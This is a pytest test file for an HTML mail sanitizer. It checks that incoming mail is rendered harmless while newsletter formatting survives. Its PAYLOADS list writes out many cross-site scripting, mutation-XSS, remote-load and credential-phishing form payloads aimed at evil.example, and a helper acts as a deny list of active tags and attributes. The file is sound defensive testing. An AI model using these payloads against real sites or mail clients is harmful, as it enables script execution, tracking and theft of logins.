# ruff: noqa: E501 - tables of markup as mail programs write it
"""What the frame shows of HTML mail: harmless whatever comes in, and still recognisable."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.mail.html.bounds import Bounds, is_bounded
from gateway.mail.html.display import display_html
from gateway.mail.html.markup import attributes, tokens

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<svg onload=alert(1)><a xlink:href='javascript:x'>y</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<div style='background-image:url(https://evil.example/x.png);list-style:url(x)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/x.png)'>x</div>",
    "<div style=\"background:image-set('https://evil.example/x.png' 1x)\">x</div>",
    "<div style='width:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%'>x</div>",
    "<div style=\"font-family:'&amp;quot;;background:url(https://evil.example)'\">x</div>",
    "<table background='https://evil.example/x.png'><tr><td background='https://evil.example/y.png'>x</table>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<video poster=https://evil.example src=x></video><audio src=x autoplay></audio>",
    "<picture><source srcset=https://evil.example><img srcset='https://evil.example 1x'></picture>",
    "<body onload=alert(1) background=https://evil.example>x",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html,x'>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1><img src='//evil.example/p.gif'>",
    "<p id=x name=y class='a b' data-x=1 contenteditable autofocus tabindex=1 onfocus=alert(1)>x",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<a style='display:block' href='https://ok.example' onclick=alert(1) target=_self rel=opener>x</a>",
]


def assert_harmless(html: str) -> None:
    """Nothing in some HTML can execute, submit or load."""
    active = {
        "script",
        "style",
        "svg",
        "math",
        "form",
        "input",
        "button",
        "iframe",
        "object",
        "embed",
        "link",
        "meta",
        "base",
        "textarea",
    }
    for name, body in tokens(html):
        if not name or name.startswith("/"):
            continue
        assert name not in active
        for attribute, value in attributes(body).items():
            assert not attribute.startswith("on")
            assert attribute not in ("background", "srcset", "poster", "srcdoc", "action", "id")
            assert attribute != "href" or re.match(r"https?:|mailto:|tel:", value)
            assert attribute != "src" or re.match(r"data:image/(png|gif|jpeg|webp);|/files/", value)
            assert attribute != "style" or not re.search(
                r"url|image|expression|position|behavior|binding|\\", value, re.IGNORECASE
            )


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around",
    ["{}", "<table><tr><td>{}</td></tr></table>", "<p>Hi <b>{}", "{}<!--", "<div title='{}'>"],
)
def test_payload_loses_its_teeth(payload: str, around: str) -> None:
    """Known attacks come out as nothing, as text or as a plain element, wherever they stand."""
    assert_harmless(display_html(around.format(payload), {}).html)


PIECES = st.sampled_from(
    [*PAYLOADS, "<", ">", '"', "'", "`", "<p>", "</p>", "<table>", "<td>", "<b>", "</b>", "<a href='", "style='", "&lt;", "&quot;", "\x00",
     "<svg>", "<math>", "<title>", "-->", "<!--", "]]>", "</style>", "text", "<font color=", "/", "=", "&#", "url(", "http://a.example"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=12).map("".join))
def test_any_mixture_is_harmless(html: str) -> None:
    """Pieces of attacks in any order stay harmless and never raise."""
    assert_harmless(display_html(html, {}).html)


def test_remote_images_are_left_out_and_counted() -> None:
    """Images, backgrounds and styles that would be loaded are counted; what is left stays in place."""
    html = (
        '<img src="https://t.example/p.gif" alt=Logo width=10><td background="https://t.example/b">'
        '<div style="background:url(http://t.example/c);color:red">x</div>'
    )
    shown = display_html(f"<table><tr>{html}</table>", {})
    assert shown.blocked_images == 3
    assert 'alt="Logo"' in shown.html
    assert "color:red" in shown.html
    assert "t.example" not in shown.html


def test_pictures_of_the_mail_are_shown() -> None:
    """A cid: address becomes the route of its attachment, in any spelling; one without attachment goes."""
    shown = display_html('<img src="CID:Logo%40x"><img src="cid:other">', {"<logo@x>": "/files/3"})
    assert shown.html.startswith('<img src="/files/3">')
    assert "cid" not in shown.html
    assert shown.blocked_images == 0


def test_links_open_in_a_new_tab_and_tell_nothing() -> None:
    """Links of the mail and addresses in its text get target and rel."""
    shown = display_html(
        '<a href="https://example.com/a" target=_top>x</a> see https://example.com/b?c=1&amp;d=2.',
        {},
    ).html
    assert shown.count('target="_blank" rel="noopener noreferrer nofollow"') == 2
    assert '<a href="https://example.com/b?c=1&amp;d=2"' in shown


def test_ordinary_formatting_stays() -> None:
    """Tables, colours, fonts and Outlook's paragraphs survive, so that a newsletter still looks right."""
    html = (
        '<table width="600" cellpadding="0" bgcolor="#ffffff"><tbody><tr><td align="center" colspan="2" '
        'style="padding:4px;font-family:&quot;Segoe UI&quot;,Arial;border-top:1px solid #ccc"><font color="#123456">Hi</font></td></tr></tbody></table>'
        '<p class="MsoNormal">Text</p>'
    )
    shown = display_html(html, {}).html
    for part in (
        'width="600"',
        'bgcolor="#ffffff"',
        'colspan="2"',
        "Segoe UI",
        "border-top:1px solid #ccc",
        'color="#123456"',
        'class="MsoNormal"',
    ):
        assert part in shown


def test_paragraphs_without_margins_stay_so() -> None:
    """The style sheet of Outlook on the web goes to its paragraphs, which are still one line each."""
    shown = display_html(
        "<style>P {margin-top:0;margin-bottom:0;}</style><p>One</p><p>Two</p>", {}
    ).html
    style = "margin-top:0;margin-bottom:0;"
    assert shown == f'<div class="flat"><p style="{style}">One</p><p style="{style}">Two</p></div>'


@pytest.mark.parametrize(
    "html",
    ["<div>" * 100_000, "<p>" + "".join(f"<font color={n}>" for n in range(200)) + "<p>x" * 20_000, "<b>x</b>" * 20_000, "&amp;" * 30_000,
     "x" * 500_000, ("<div><table><tr><td></div>") * 5000],
    ids=["nested", "formatting", "tags", "references", "size", "tables"],
)  # fmt: skip
def test_mail_that_would_cost_too_much_is_shown_as_text(html: str) -> None:
    """Beyond the bounds no tree is built; the words are shown, escaped."""
    started = time.process_time()
    shown = display_html(html + "<i>a &lt;script&gt;", {})
    assert time.process_time() - started < 8
    assert shown.is_text
    assert shown.html.startswith("<pre")
    assert "<script" not in shown.html


@pytest.mark.parametrize(
    "html",
    ["(" * 300_000, "a." * 150_000, "www." + "." * 300_000, "<p style='" + "(" * 300_000 + "'>x", "<p style='" + "color:red;" * 30_000 + "'>x",
     "<p " + " ".join(f"a{n}=1" for n in range(30_000)) + ">x", "http://a.example " * 20_000],
    ids=["parentheses", "dots", "url", "css", "declarations", "attributes", "links"],
)  # fmt: skip
def test_mail_within_the_bounds_costs_little(html: str) -> None:
    """What gets past the bounds is shown in small, bounded time."""
    started = time.process_time()
    assert_harmless(display_html(html, {}).html)
    assert time.process_time() - started < 8


BOUNDS = Bounds(characters=100, references=2, tags=4, depth=3, repeated=60)


@pytest.mark.parametrize(
    ("html", "bounded"),
    [("x" * 100, True), ("x" * 101, False), ("&&", True), ("&&&", False), ("<i></i>" * 4, True), ("<i></i>" * 5, False),
     ("<div><div><div>", True), ("<div><div><div><div>", False), ("<div></div>" * 4, True), ("<p>" * 4, True),
     ("<font>a</font>b", True), ("<font>abc<i>", True), ("<font>a<i>b", False)],
)  # fmt: skip
def test_bounds_hold_at_their_edges(html: str, bounded: bool) -> None:
    """Characters, references, tags, depth and repeated formatting are allowed up to the bound and not beyond."""
    assert is_bounded(html, BOUNDS) is bounded


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (
            '<body bgcolor="#036" text="white" style="font-family:Arial"><p>x</p></body>',
            '<div dir="ltr" style="background-color:#036;color:white;font-family:Arial;"><p>x</p></div>',
        ),
        ("<html dir=rtl><body>x</body></html>", '<div dir="rtl" style="">x</div>'),
        ("<html dir='\"><img onerror=x>'><body>x</body></html>", "x"),
        ("<body style='position:fixed;background:url(https://x.example)'>x", '<div dir="ltr" style="">x</div>'),
        ("<body class=x>x</body>", "x"),
    ],
)  # fmt: skip
def test_what_the_body_says_of_colours_and_direction_stays(html: str, expected: str) -> None:
    """The body element is dropped; white words on its dark ground must not become white on white."""
    assert display_html(html, {}).html == expected


@pytest.mark.parametrize(
    "style",
    [
        "border-bottom-right-radius:8px;",
        "max-height:0;",
        "display:flex;gap:12px;justify-content:center;",
        "background:linear-gradient(90deg, #eff6ff, #fff);",
        "width:min(100%, 600px);",
    ],
)
def test_layout_stays(style: str) -> None:
    """What places and colours things without loading anything is kept."""
    assert f'style="{style}"' in display_html(f'<div style="{style}">x</div>', {}).html


def test_a_gradient_loads_nothing() -> None:
    """An address between its colours takes the whole declaration away."""
    html = '<div style="background:linear-gradient(red, url(https://x.example/a))">x</div>'
    assert "x.example" not in display_html(html, {}).html


@pytest.mark.parametrize("place", ["", "CxSpFirst", "CxSpMiddle", "CxSpLast"])
def test_lists_of_word_keep_their_class(place: str) -> None:
    """Their numbers hang to the left of a margin that the frame's style sheet gives."""
    html = f'<p class="MsoListParagraph{place} other">x</p>'
    assert display_html(html, {}).html == f'<p class="MsoListParagraph{place}">x</p>'


@pytest.mark.parametrize(
    "style", ["margin-top:-2000px", "margin:0 0 -90em", "text-indent:-9999px", "margin-left:-150%"]
)
def test_no_style_moves_words_out_of_sight(style: str) -> None:
    """What the frame shows must be what the text says."""
    assert style not in display_html(f'<p style="{style}">Words</p>', {}).html


@pytest.mark.parametrize("style", ["text-indent:-18pt", "margin-left:-0.5in", "margin-top:-4px"])
def test_hanging_indents_stay(style: str) -> None:
    """Word's lists hang by negative indents."""
    assert style in display_html(f'<p style="{style}">Words</p>', {}).html
